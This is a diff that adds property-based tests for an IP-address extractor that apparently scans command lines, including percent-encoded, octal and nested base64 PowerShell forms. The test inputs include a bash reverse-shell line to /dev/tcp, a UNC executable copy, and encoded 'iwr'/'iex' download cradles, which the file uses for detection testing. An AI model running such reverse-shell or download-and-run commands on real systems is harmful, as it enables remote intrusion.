@@ -43,6 +43,10 @@ const ipv4Context = fc.constantFrom(
   (ip: string) => `echo [${ip}]`,
   (ip: string) => `wmic /node:${ip} process list`,
   (ip: string) => `(${ip})`,
+  (ip: string) => `bash -i >& /dev/tcp/${ip}/4444 0>&1`,
+  (ip: string) => `copy \\\\?\\UNC\\${ip}\\share\\x.exe .`,
+  (ip: string) => `mysql -h${ip} -uroot`,
+  (ip: string) => `curl "https://x.example/r?u=http%3A%2F%2F${ip}%2Fa"`,
 );
 
 describe('extractAddresses (properties)', () => {
@@ -113,6 +117,32 @@ describe('extractAddresses (properties)', () => {
     );
   });
 
+  it('reads a URL host with any of its characters percent-encoded as that host, and reports no other address', () => {
+    fc.assert(
+      fc.property(publicIPv4, fc.array(fc.boolean(), { minLength: 15, maxLength: 15 }), fc.boolean(), (n, escaped, upper) => {
+        const ip = formatIPv4(n);
+        const hex = (c: string): string => c.charCodeAt(0).toString(16);
+        const host = [...ip].map((c, i) => (escaped[i] ? `%${upper ? hex(c).toUpperCase() : hex(c)}` : c)).join('');
+        expect(extractAddresses(`curl http://${host}/a -o a`).map((a) => a.address)).toEqual([ip]);
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  it('reads a zero-padded quad as its octal value, and a URL host with any number of leading zeros', () => {
+    fc.assert(
+      fc.property(publicIPv4, fc.array(fc.nat(40), { minLength: 4, maxLength: 4 }), (n, zeros) => {
+        const octets = formatIPv4(n).split('.').map(Number);
+        const host = octets.map((o, i) => `${'0'.repeat(zeros[i]! + 1)}${o.toString(8)}`).join('.');
+        expect(extractAddresses(`curl http://${host}/p -o p`).map((a) => a.address)).toEqual([formatIPv4(n)]);
+        // As an argument, padding that only versions have (`00`) is not read; obfuscation writes `0` for a zero octet.
+        const argument = octets.map((o) => (o === 0 ? '0' : `0${o.toString(8)}`)).join('.');
+        expect(extractAddresses(`ping -n 1 ${argument}`)).toEqual([expect.objectContaining({ address: formatIPv4(n), encoding: 'octal' })]);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
   it('finds a public IPv6 address, plain or bracketed in a URL', () => {
     fc.assert(
       fc.property(publicIPv6, fc.boolean(), word, (groups, bracketed, before) => {
@@ -133,6 +163,21 @@ describe('extractAddresses (properties)', () => {
         expect(found).toContainEqual(expect.objectContaining({ address: ip, encoding: 'encoded-command' }));
       }),
       { numRuns: 500 },
+    );
+  });
+
+  it('finds an address in encoded commands nested at any depth', () => {
+    const encode = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
+    fc.assert(
+      fc.property(publicIPv4, fc.integer({ min: 1, max: 7 }), fc.boolean(), (n, depth, literal) => {
+        const ip = formatIPv4(n);
+        let line = `iwr http://${ip}/a`;
+        for (let i = 0; i < depth; i++) {
+          line = literal && i % 2 === 1 ? `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${encode(line)}')))` : `powershell -enc ${encode(line)}`;
+        }
+        expect(extractAddresses(line)).toContainEqual(expect.objectContaining({ address: ip, encoding: 'encoded-command' }));
+      }),
+      { numRuns: 200 },
     );
   });
 });
